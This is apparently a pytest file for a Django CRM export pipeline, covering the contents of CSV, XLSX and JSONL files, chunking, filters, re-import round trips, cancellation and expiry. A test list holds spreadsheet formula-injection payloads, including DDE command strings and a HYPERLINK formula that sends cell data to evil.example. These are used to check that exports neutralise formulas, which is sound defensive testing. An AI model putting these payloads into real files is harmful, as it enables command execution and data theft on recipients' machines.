"""Files that go out: whoever fits is in them once, nothing in them runs, and what went out comes back without a change."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage

from config.platform.models import AuditEvent
from crm import contacts
from crm.exporting import jobs, pieces
from crm.importing import jobs as importing
from crm.models import Contact, Export, ExportPart, Import, ImportRow
from tests.conftest import NOON
from tests.factories.calls import CallFactory
from tests.factories.crm import ContactAddressFactory, ContactEmailFactory, ContactFactory, CustomFieldFactory
from tests.factories.exports import SavedFilterFactory
from tests.factories.platform import UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def boss():
    return UserFactory(role="supervisor")


def ordered(by, form="csv", **more):
    return jobs.order(**{"entity": "contacts", "form": form, "by": by, "now": NOON, **more})


def written(export, capture=None):
    """The export after a worker was there, and its file."""
    while jobs.run_owed(now=datetime.now(UTC)):
        pass
    export.refresh_from_db()
    assert export.status == "done", export.problem
    with default_storage.open(export.file.name) as file:
        return file.read()


def table(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def sheet(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [["" if cell is None else cell for cell in row] for page in book for row in page.iter_rows(values_only=True)]


# What is in a file

DANGEROUS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "＝1+1", "＋1+cmd", "－1+cmd", "＠SUM(1)", "+7 495 123-45-67+cmd|' /C calc'!A0", "-5-A1", "+A1",
]  # fmt: skip
HARMLESS = ["", "Иванов", "O'Brien", "a=b", "1+1", "-5", "-5.25", "42", "+7 495 123-45-67", "+74951234567", "+63 917 123 4567; +7 495 123-45-67 ext. 12", "mail@example.com"]  # fmt: skip


@pytest.mark.parametrize("text", DANGEROUS, ids=repr)
def test_nothing_begins_as_a_formula(text):
    assert pieces.harmless(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_what_is_harmless_stays_as_it_is(text):
    assert pieces.harmless(text) == text


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_cell_of_a_file_runs(form, boss):
    CustomFieldFactory(key="note")
    for text in DANGEROUS:
        ContactFactory(surname=text, custom_fields={"note": text}, tags=[text], phones=True)
    content = written(ordered(boss, form, columns=["surname", "tags", "cf_note", "phones"]))
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))) if form == "csv" else sheet(content)
    assert len(lines) == len(DANGEROUS) + 1
    for line in lines[1:]:
        for cell in line[:3]:
            assert cell[0] == "'", line
        assert line[3].startswith("+7 495"), "a phone stays readable"
    if form == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(content))
        assert {cell.data_type for row in book.active.iter_rows() for cell in row} == {"s"}, "texts are texts, none is a formula"


def test_a_table_has_the_columns_that_were_asked_for_in_their_order(boss):
    CustomFieldFactory(key="debt", type="number")
    CustomFieldFactory(key="likes", type="multi", choices=["tea", "coffee"])
    company = ContactFactory(company=True)
    contact = ContactFactory(
        surname="Фёдорова", name="Алёна", employer=company, tags=["b", "a"], phones=["+74951234567", "+639171234567"],
        custom_fields={"debt": -12.5, "likes": ["tea", "coffee"]},
    )  # fmt: skip
    ContactEmailFactory(contact=contact, email="a@example.com")
    ContactAddressFactory(contact=contact, city="Казань", street="Лесная 1", country="RU", text="")
    columns = ["cf_debt", "surname", "phones", "emails", "address", "employer", "cf_likes", "tags"]
    export = ordered(boss, columns=columns, query={"kind": "person"})
    (row,) = table(written(export))
    assert list(row) == columns
    assert row["surname"] == "Фёдорова" and row["employer"] == company.company_name and row["cf_debt"] == "-12.5"
    assert row["phones"] == "+7 495 123-45-67; +63 917 123 4567"
    assert row["emails"] == "a@example.com" and "Казань" in row["address"]
    assert row["cf_likes"] == "tea; coffee" and row["tags"] == "b; a"
    number = sheet(written(ordered(boss, "xlsx", columns=["cf_debt"], query={"kind": "person"})))
    assert number == [["cf_debt"], [-12.5]]


def test_json_lines_are_what_the_api_shows(client_of, boss):
    contact = ContactFactory(phones=True)
    client = client_of("supervisor")
    (line,) = written(ordered(boss, "jsonl")).splitlines()
    shown = client.get(f"/api/v1/contacts/{contact.pk}/").json()
    told = json.loads(line)
    assert {name: value for name, value in told.items() if not name.endswith("_at")} == {
        name: value for name, value in shown.items() if not name.endswith("_at")
    }
    (line,) = written(ordered(boss, "jsonl", columns=["id", "phones"])).splitlines()
    assert json.loads(line) == {"id": shown["id"], "phones": shown["phones"]}


def test_control_characters_and_long_texts_do_not_break_a_workbook(boss):
    CustomFieldFactory(key="long")
    contact = ContactFactory(surname="I\x0bv\x1fan\ufffe & <b>", company_name="x\ny")
    Contact.objects.filter(pk=contact.pk).update(custom_fields={"long": "=" + "y" * 40_000})
    lines = sheet(written(ordered(boss, "xlsx", columns=["surname", "company_name", "cf_long"])))
    assert lines[1][:2] == ["Ivan & <b>", "x\ny"]
    assert len(lines[1][2]) == 32_767


def test_many_rows_are_each_there_once_whatever_the_number_of_pieces(boss, monkeypatch):
    monkeypatch.setattr(pieces, "ROWS_OF_A_PIECE", 3)
    monkeypatch.setattr(pieces, "PIECES_OF_A_SHEET", 2)
    people = {str(ContactFactory().pk) for _ in range(14)}
    for form in ("csv", "jsonl"):
        content = written(ordered(boss, form, columns=["id"]))
        found = [row["id"] for row in table(content)] if form == "csv" else [json.loads(line)["id"] for line in content.splitlines()]
        assert len(found) == 14 and set(found) == people
    book = openpyxl.load_workbook(io.BytesIO(written(ordered(boss, "xlsx", columns=["id"]))))
    assert [page.max_row for page in book] == [7, 7, 3], "more than a sheet holds goes to the next, each with the names of columns"
    found = [row[0] for page in book for row in page.iter_rows(min_row=2, values_only=True)]
    assert len(found) == 14 and set(found) == people


def test_an_export_of_nobody_is_a_file_with_its_header(boss):
    assert table(written(ordered(boss, query={"lifecycle": "dormant"}))) == []
    assert written(ordered(boss, "jsonl", query={"search": "nobody at all"})) == b""
    assert sheet(written(ordered(boss, "xlsx", query={"id": "0199a1b2-c3d4-75f6-8718-293a4b5c6d7e"}, columns=["name"]))) == [["name"]]


def test_the_filters_are_those_of_the_list(boss, client_of):
    for tags, lifecycle in [(["vip"], "client"), ([], "client"), (["vip"], "lead"), (["old"], "dormant")]:
        ContactFactory(tags=tags, lifecycle=lifecycle)
    saved = SavedFilterFactory(owner=boss, query={"lifecycle": ["client", "lead"]})
    export = ordered(boss, query={"tag": "vip"}, saved_filter=saved.pk, columns=["id"])
    saved.delete()
    listed = client_of("agent").get("/api/v1/contacts/?tag=vip&lifecycle=client,lead").json()["results"]
    assert sorted(row["id"] for row in table(written(export))) == sorted(row["id"] for row in listed)
    assert len(listed) == 2


def test_who_is_in_it_is_decided_at_one_moment_and_who_is_gone_is_left_out(boss, monkeypatch):
    monkeypatch.setattr(pieces, "ROWS_OF_A_PIECE", 2)
    people = [ContactFactory() for _ in range(5)]
    export = ordered(boss, columns=["id"])
    jobs._decide(export, now=NOON)
    late = ContactFactory()
    people[1].delete()
    found = [row["id"] for row in table(written(export))]
    assert found == [str(one.pk) for one in people if one is not people[1]] and str(late.pk) not in found
    export.refresh_from_db()
    assert (export.total, export.done, export.left_out) == (5, 5, 1)


def test_a_retired_field_leaves_its_column_empty(boss):
    field = CustomFieldFactory(key="card")
    ContactFactory(surname="I", custom_fields={"card": "7"})
    export = ordered(boss, columns=["cf_card", "surname"])
    field.is_active = False
    field.save()
    assert table(written(export)) == [{"cf_card": "", "surname": "I"}]


def test_a_filter_that_lost_its_field_fails_the_export_and_says_why(boss):
    field = CustomFieldFactory(key="card")
    export = ordered(boss, query={"cf_card": "7"})
    field.delete()
    jobs.run_owed(now=NOON)
    export.refresh_from_db()
    assert export.status == "failed" and "take `cf_card` out" in export.problem


def test_calls_are_exported_by_their_own_filters(boss):
    contact = ContactFactory(surname="=evil", name="", patronymic="")
    call = CallFactory(contact=contact, missed=True)
    CallFactory()
    export = ordered(boss, entity="calls", query={"contact": str(contact.pk)}, columns=["id", "contact_name", "outcome", "customer_number"])
    (row,) = table(written(export))
    assert row["id"] == str(call.pk) and row["contact_name"] == "'=evil" and row["outcome"] == call.outcome


# There and back


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_what_went_out_changes_nothing_when_it_is_imported_again(form, boss, client_of, settings):
    settings.DEFAULT_PHONE_REGION = "PH"  # the numbers must tell their country themselves
    contacts.add(
        surname="Фёдорова", name="Алёна", patronymic="Игоревна", phones=[{"number": "+7 495 123-45-67 доб. 12"}, {"number": "+7 916 123-45-67"}],
        emails=[{"email": "a@example.com"}, {"email": "b@example.com"}], tags=["vip", "news"], language="ru", time_zone="Europe/Moscow",
        addresses=[{"city": "Казань", "street": "Лесная 1"}], by=boss, now=NOON,
    )  # fmt: skip
    company = contacts.add(kind="company", company_name="Krause Dachbau GmbH", phones=[{"number": "+49 30 7654321"}], by=boss, now=NOON)
    contacts.add(surname="dela Cruz", name="Juan", phones=[{"number": "+63 917 123 4567"}], employer=company, by=boss, now=NOON)
    contacts.add(phones=[{"number": "+1 202 555 0123"}], by=boss, now=NOON)
    before = [(one.version, one.surname, one.tags) for one in Contact.objects.order_by("pk")]
    numbers = list(Contact.objects.order_by("pk").values_list("contact_phones__phone__e164", flat=True))
    content = written(ordered(boss, form))
    batch = importing.upload(ContentFile(content, f"contacts.{form}"), filename=f"contacts.{form}", is_dry_run=False, by=boss, now=NOON)
    while importing.run_owed(now=datetime.now(UTC)):
        pass
    batch.refresh_from_db()
    assert batch.status == Import.Status.DONE, batch.problem
    verdicts = list(ImportRow.objects.filter(batch=batch).values_list("verdict", "problems", "candidate"))
    assert [verdict for verdict, *_ in verdicts] == ["duplicate"] * 4, verdicts
    assert [(one.version, one.surname, one.tags) for one in Contact.objects.order_by("pk")] == before
    assert list(Contact.objects.order_by("pk").values_list("contact_phones__phone__e164", flat=True)) == numbers


# The job


def test_a_stopped_export_leaves_nothing_behind(boss, monkeypatch, folder, django_capture_on_commit_callbacks):
    monkeypatch.setattr(pieces, "ROWS_OF_A_PIECE", 1)
    for _ in range(3):
        ContactFactory()
    export = ordered(boss)
    jobs._decide(export, now=NOON)
    jobs._write_next(export.pk)
    assert list(folder.rglob("*.piece"))
    with django_capture_on_commit_callbacks(execute=True):
        jobs.cancel(export.pk, by=boss, now=NOON)
    jobs.run_owed(now=NOON)
    export.refresh_from_db()
    assert export.status == "cancelled"
    assert [path for path in folder.rglob("*") if path.is_file()] == []
    assert not ExportPart.objects.filter(export=export).exists()


def test_a_worker_that_writes_while_it_is_stopped_leaves_nothing_for_long(boss, folder, django_capture_on_commit_callbacks):
    ContactFactory()
    export = ordered(boss)
    with django_capture_on_commit_callbacks(execute=True):
        jobs.cancel(export.pk, by=boss, now=NOON)
    jobs._store(jobs._piece_name(export.pk, 0), ContentFile(b"Ivanov"))
    jobs.expire(now=NOON + timedelta(minutes=30))
    assert [path for path in folder.rglob("*") if path.is_file()] == []


def test_files_are_kept_some_days_and_then_deleted(boss, settings, folder, django_capture_on_commit_callbacks):
    ContactFactory()
    export = ordered(boss)
    written(export)
    kept_until = export.finished_at + settings.EXPORT_KEPT
    assert export.expires_at == kept_until
    assert jobs.expire(now=kept_until - timedelta(seconds=1)) == 0
    with django_capture_on_commit_callbacks(execute=True):
        assert jobs.expire(now=kept_until) == 1
    export.refresh_from_db()
    assert export.status == "expired" and [path for path in folder.rglob("*") if path.is_file()] == []
    with pytest.raises(jobs.ExportExpired):
        jobs.opened(export.pk, by=boss, now=NOON)


def test_a_step_that_fails_is_tried_again_and_given_up_in_the_end(boss, monkeypatch):
    ContactFactory()
    export = ordered(boss)
    monkeypatch.setattr(pieces, "piece", lambda *args: 1 / 0)
    for turn in range(5):
        jobs.run_owed(now=datetime.now(UTC) + timedelta(days=turn))
    export.refresh_from_db()
    assert export.status == "failed" and "ZeroDivisionError" in export.problem and export.failures == 5


def test_ordering_and_reading_are_remembered(boss):
    ContactFactory()
    export = ordered(boss)
    written(export)
    _, file = jobs.opened(export.pk, by=boss, now=NOON)
    file.close()
    verbs = AuditEvent.objects.filter(subject_id=export.pk).order_by("id").values_list("verb", "by")
    assert [verb for verb, _ in verbs] == ["order", "start", "finish", "download"]
    assert {by for _, by in verbs} == {boss.pk}


def test_progress_is_told_in_rows(boss, monkeypatch):
    from crm.exporting import progress

    monkeypatch.setattr(pieces, "ROWS_OF_A_PIECE", 2)
    for _ in range(5):
        ContactFactory()
    export = ordered(boss)
    assert progress.of(export) == {"done": 0, "total": None, "rate_per_s": None, "seconds_left": None}
    jobs._decide(export, now=NOON)
    jobs._write_next(export.pk)
    export = Export.objects.get(pk=export.pk)
    assert (progress.of(export)["done"], progress.of(export)["total"]) == (2, 5)
    assert progress.owed() == {("running",): 1.0}
